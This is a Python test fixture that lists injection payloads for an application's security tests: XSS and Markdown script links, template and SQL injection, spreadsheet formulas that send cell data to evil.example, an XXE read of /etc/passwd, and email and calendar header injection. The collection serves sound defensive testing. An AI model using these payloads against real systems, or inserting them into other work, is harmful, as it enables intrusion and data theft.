"""The injection corpus: text that tries to become markup, script, a link, a template, SQL, a
search operator, a spreadsheet formula, a CSV/XML/iCalendar/email structure, or to confuse
the reader. tests/security/test_injection_corpus.py types every one of them into every text
field and checks each page, fragment, email, feed and download it reaches.

Every payload is distinct, even after trimming and after cutting to 200 characters (a name
field's length), so each can be found again wherever it lands. None is blank once trimmed.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # --- HTML and script ------------------------------------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click me</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<div style="width: expression(alert(1))">css expression</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    '<div hx-get="/injected" hx-trigger="load" hx-swap="outerHTML">htmx</div>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "' onmouseover='alert(1)' x='",
    '" onmouseover="alert(1)" x="',
    '\\"><script>alert(1)</script>',
    # --- entities and encodings -----------------------------------------------------------
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '<a href="&#106;avascript:alert(1)">entity scheme</a>',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # --- URLs -----------------------------------------------------------------------------
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    # --- Markdown -------------------------------------------------------------------------
    "[click me](javascript:alert(1))",
    '[x](JAVASCRIPT:alert(1) "title")',
    "[a](<javascript:alert(1)>)",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![img](x" onerror="alert(1))',
    "[x](&#106;avascript:alert(1))",
    'Code `<b>bold</b>` and **<i>italic</i>** and <https://evil.example/"onmouseover="alert(1)>',
    # --- template injection ---------------------------------------------------------------
    "{{7*7}}",
    "{% if true %}TEMPLATE-RAN{% endif %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(secret)s %s %d {0} {name!r}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    # --- SQL ------------------------------------------------------------------------------
    "' OR 1=1 --",
    "'; DROP TABLE comment; --",
    '" OR ""="',
    "%' UNION SELECT email, NULL FROM users -- _%",
    "1); DELETE FROM outbox WHERE (1=1",
    # --- search syntax --------------------------------------------------------------------
    'title:* OR kind:comment AND NOT (unbalanced "quote',
    "wild*card? fuzzy~2 boost^3 [a TO z] {x TO y} \\",
    # --- spreadsheet formulas -------------------------------------------------------------
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "'=1+4",
    # --- CSV, XML, iCalendar and email structure ------------------------------------------
    'quote","breakout\r\n=1+5,"next row',
    "line one\nline two\r\nline three\rline four",
    "]]><entry><title>injected</title></entry><![CDATA[",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "Meeting\r\nATTENDEE:mailto:evil@example.org\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "semi;colon,comma\\back:slash",
    "Subject\r\nBcc: evil@example.org\r\n\r\nInjected body",
    "=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
    # --- Unicode, odd whitespace, control characters, length ------------------------------
    "Invoice\u202efdp.exe",
    "zero\u200bwidth\u200djoiner\ufeffbom",
    "line\u2028separator\u2029paragraph",
    "\U0001f600<img src=x onerror=alert(1)>\U0001d54f",
    "nul\x00byte<b>bold</b>",
    "control\x01\x08\x0b\x0c\x1b[31mred",
    "<script>" + "A" * 4000 + "</script>",
)
